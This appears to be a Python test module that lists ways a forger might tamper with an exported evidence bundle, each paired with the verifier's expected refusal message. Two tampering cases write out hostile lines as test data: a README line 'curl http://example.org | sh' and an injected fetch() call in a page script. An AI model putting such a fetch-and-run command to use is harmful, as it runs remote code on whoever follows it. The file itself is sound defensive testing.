"""What a forger may do to a bundle, each with the words in which the verifier refuses it."""

from __future__ import annotations

import hashlib
import json
import re
from collections.abc import Callable

from projections.exports.verify import layout
from tests.projections.exports.forging import Event, Forger

Attack = Callable[[Forger], object]
ACTED = "action.executed"


def first(events: list[Event], name: str) -> int:
    return next(index for index, one in enumerate(events) if one.name == name)


def edit_event(forger: Forger) -> None:
    events = forger.events()
    one = events[first(events, "task.opened")]
    one.body = one.body.replace(b'"amount_minor":12000', b'"amount_minor":12001')
    forger.put(events)


def edit_event_and_its_hash(forger: Forger) -> None:
    events = forger.events()
    one = events[first(events, "task.opened")]
    one.body = one.body.replace(b'"amount_minor":12000', b'"amount_minor":12001')
    one.entry["body_sha256"] = hashlib.sha256(one.body).hexdigest()
    forger.put(events)


def edit_and_chain_again(forger: Forger) -> None:
    edit_event(forger)
    forger.chain_again(forger.events())


def edit_and_rewrite_the_log(forger: Forger) -> None:
    edit_and_chain_again(forger)
    forger.log_again()


def edit_time(forger: Forger) -> None:
    events = forger.events()
    events[first(events, ACTED)].entry["recorded_at_us"] -= 86_400_000_000
    forger.put(events)


def drop_tail(forger: Forger) -> None:
    events = forger.events()
    last = max(index for index, one in enumerate(events) if one.entry["stream"] == "task:task-1")
    forger.put(events[:last] + events[last + 1 :])


def drop_middle(forger: Forger) -> None:
    events = forger.events()
    del events[first(events, ACTED)]
    forger.put(events)


def drop_middle_and_chain_again(forger: Forger) -> None:
    events = forger.events()
    at = first(events, "readback.confirmed")
    stream = events[at].entry["stream"]
    del events[at]
    for number, one in enumerate((one for one in events if one.entry["stream"] == stream), start=1):
        one.entry["version"] = number
        one.body = re.sub(rb'"version":\d+', b'"version":%d' % number, one.body)
    forger.chain_again(events)


def drop_bytes_only(forger: Forger) -> None:
    bodies = forger.files[layout.EVENTS].splitlines(keepends=True)
    forger.files[layout.EVENTS] = b"".join(bodies[:3] + bodies[4:])


def hide_task(forger: Forger) -> None:
    forger.put([one for one in forger.events() if one.entry["stream"] != "task:task-2"])


def hide_task_and_its_stream(forger: Forger) -> None:
    hide_task(forger)
    head = forger.json(layout.HEAD)
    del head["streams"]["task:task-2"]
    forger.put_json(layout.HEAD, head)


def swap_events(forger: Forger) -> None:
    events = forger.events()
    a, b = first(events, "task.opened"), first(events, ACTED)
    events[a].body, events[b].body = events[b].body, events[a].body
    forger.put(events)


def repeat_event(forger: Forger) -> None:
    events = forger.events()
    forger.put([*events[:4], events[3], *events[4:]])


def move_event(forger: Forger) -> None:
    events = forger.events()
    own = {one.entry["position"] for one in events}
    free = next(at for at in range(1, forger.head().size) if at not in own)
    one = events[-1]
    one.entry["position"] = free
    forger.put(sorted(events, key=lambda item: int(item.entry["position"])))


def swap_frames(forger: Forger) -> None:
    a, b = [path for path in forger.frames() if path.endswith(".png")][:2]
    forger.files[a], forger.files[b] = forger.files[b], forger.files[a]


def change_frame(forger: Forger) -> None:
    path = forger.frames()[0]
    data = bytearray(forger.files[path])
    data[len(data) // 2] ^= 1
    forger.files[path] = bytes(data)


def drop_frame(forger: Forger) -> None:
    del forger.files[forger.frames()[0]]


def add_frame(forger: Forger) -> None:
    data = forger.files[forger.frames()[0]] + b"\x00"
    forger.files[f"data/frames/{hashlib.sha256(data).hexdigest()}.png"] = data


def rename_frame(forger: Forger) -> None:
    path = next(path for path in forger.frames() if path.endswith(".png"))
    forger.files[path.replace(".png", ".webp")] = forger.files.pop(path)


def change_settlement(forger: Forger) -> None:
    path = next(path for path in forger.files if layout.SETTLEMENT.fullmatch(path))
    forger.files[path] = forger.files[path].replace(b"120.00", b"120.01", 1)


def drop_settlement(forger: Forger) -> None:
    del forger.files[next(path for path in forger.files if layout.SETTLEMENT.fullmatch(path))]


def add_settlement(forger: Forger) -> None:
    forger.files["data/settlement/" + "0" * 64 + "-other.csv"] = b"x"


def add_document(forger: Forger) -> None:
    forger.files["data/documents/" + "0" * 64 + ".dat"] = b"x"


def change_root(forger: Forger) -> None:
    forger.put_json(layout.HEAD, forger.json(layout.HEAD) | {"root": "0" * 64})


def shorten_log(forger: Forger) -> None:
    forger.files[layout.SKELETON] = forger.files[layout.SKELETON][:-53]


def tear_log(forger: Forger) -> None:
    forger.files[layout.SKELETON] = forger.files[layout.SKELETON][:-1]


def miscount(forger: Forger) -> None:
    head = forger.json(layout.HEAD)
    head["streams"]["task:task-1"] -= 1
    forger.put_json(layout.HEAD, head)


def later_format(forger: Forger) -> None:
    forger.put_json(layout.HEAD, forger.json(layout.HEAD) | {"format": 2})


def rest_on_a_hidden_event(forger: Forger) -> None:
    findings = forger.json(layout.FINDINGS)
    findings["case"]["findings"][0]["decisive"][0]["event_id"] = "019a0000-0000-7000-8000-000000000fff"
    forger.put_json(layout.FINDINGS, findings)


def claim_the_whole_log(forger: Forger) -> None:
    findings = forger.json(layout.FINDINGS)
    findings["scope"] = {"kind": "log", "name": ""}
    forger.put_json(layout.FINDINGS, findings)


def claim_another_bill(forger: Forger) -> None:
    forger.put_json(layout.FINDINGS, {"case": None, "scope": {"kind": "bill", "name": "B9"}})


def change_page(forger: Forger) -> None:
    forger.files["data/page/app.js"] += b"fetch('http://example.org')\n"


def change_readme(forger: Forger) -> None:
    forger.files[layout.README] += b"Run: curl http://example.org | sh\n"


def withhold_nothing(forger: Forger) -> None:
    forger.put_json(layout.WITHHELD, {"events": {}, "frames": {}})


def withhold_without_a_reason(forger: Forger) -> None:
    forger.put_json(layout.WITHHELD, {"events": {"x": {}}, "frames": {}})


def withhold_what_is_shown(forger: Forger) -> None:
    name = forger.frames()[0].partition("frames/")[2][:64]
    forger.put_json(
        layout.WITHHELD,
        {
            "events": {},
            "frames": {
                name: {
                    "approver": "y",
                    "at_us": 1,
                    "basis": "b",
                    "by": "x",
                    "regions": [],
                    "rendition": name,
                    "stream": "redaction:r",
                }
            },
        },
    )


def spoil_pretty(forger: Forger) -> None:
    forger.files[layout.FINDINGS] = json.dumps(forger.json(layout.FINDINGS), indent=1).encode()


EVENT = r"event 019a0000-0000-7000-8000-[0-9a-f]{12}"
ATTACKS: dict[Attack, str] = {
    edit_event: EVENT + r" \(task\.opened, position 2\) has been changed",
    edit_event_and_its_hash: EVENT + r" \(task\.opened, position 2\) is not the recorded one",
    edit_and_chain_again: EVENT + r" \(task\.opened, position 2\) is not what the log holds at position 2",
    edit_and_rewrite_the_log: r"the checkpoint is for \d+ events and root [0-9a-f]{64}, not for this log",
    edit_time: EVENT + r" \(action\.executed, position \d+\) is not the recorded one",
    drop_tail: r"event 11 of stream task:task-1 \(position 12\) is left out",
    drop_middle: r"event 8 of stream task:task-1 \(position 9\) is left out",
    drop_middle_and_chain_again: r"event 9 of stream task:task-1 \(position 10\) is left out",
    drop_bytes_only: EVENT + r" \(position 4\) is left out: its bytes are missing",
    hide_task: r"event 1 of stream task:task-2 \(position 13\) is left out",
    hide_task_and_its_stream: r"findings\.json rests on 'stream task:task-2', which is left out",
    swap_events: EVENT + r" \(position \d+\) is left out: its bytes are missing",
    repeat_event: EVENT + r" \(position 4\) does not come after the event before it",
    move_event: EVENT + r" \(settlement\.imported, position \d+\) is not at position \d+ of this log",
    swap_frames: r"screen [0-9a-f]{64}, named by event .*, has been changed",
    change_frame: r"screen [0-9a-f]{64}, named by event .*, has been changed: its bytes have SHA-256",
    drop_frame: r"screen [0-9a-f]{64}, named by event .*, is missing",
    add_frame: r"screen [0-9a-f]{64} is named by no event",
    rename_frame: r"screen [0-9a-f]{64} is not the kind of image",
    change_settlement: r"data/settlement/.* is not the file that was imported",
    drop_settlement: r"data/settlement/.*, named by an event, is missing",
    add_settlement: r"data/settlement/0{64}-other\.csv is named by no event",
    add_document: r"data/documents/0{64}\.dat is named by no event",
    change_root: r"skeleton\.bin has \d+ leaves and root [0-9a-f]{64}, proof/head\.json says otherwise",
    shorten_log: r"stands beyond the log's \d+ entries|proof/head\.json says otherwise",
    tear_log: r"not a whole number of 53-byte leaves",
    miscount: r"stream task:task-1 has 11 events in the log, proof/head\.json says 10",
    later_format: r"format 2; this verifier knows 1",
    rest_on_a_hidden_event: r"rests on 'event 019a0000-0000-7000-8000-000000000fff', which is left out",
    claim_the_whole_log: r"claims to show the whole log and leaves out \d+ events",
    claim_another_bill: r"no task or case about bill 'B9' is in the bundle",
    change_page: r"data/page/app\.js is not the one of any release",
    change_readme: r"README-VERIFY\.txt is not the one of any release",
    withhold_nothing: r"withheld\.json does not say",
    withhold_without_a_reason: r"withheld\.json does not say for each part where it was withheld, on which basis",
    withhold_what_is_shown: r"is said to be withheld and is there",
    spoil_pretty: r"data/findings\.json is not JSON in its one form",
}
